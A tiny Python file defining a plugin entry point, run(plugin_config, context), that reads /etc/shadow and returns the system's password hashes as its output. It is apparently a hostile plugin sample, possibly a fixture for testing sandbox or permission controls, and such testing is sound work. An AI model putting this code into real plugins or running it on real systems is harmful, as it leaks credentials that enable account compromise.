def run(plugin_config, context):
    with open("/etc/shadow") as secrets:
        return {"output": secrets.read()}
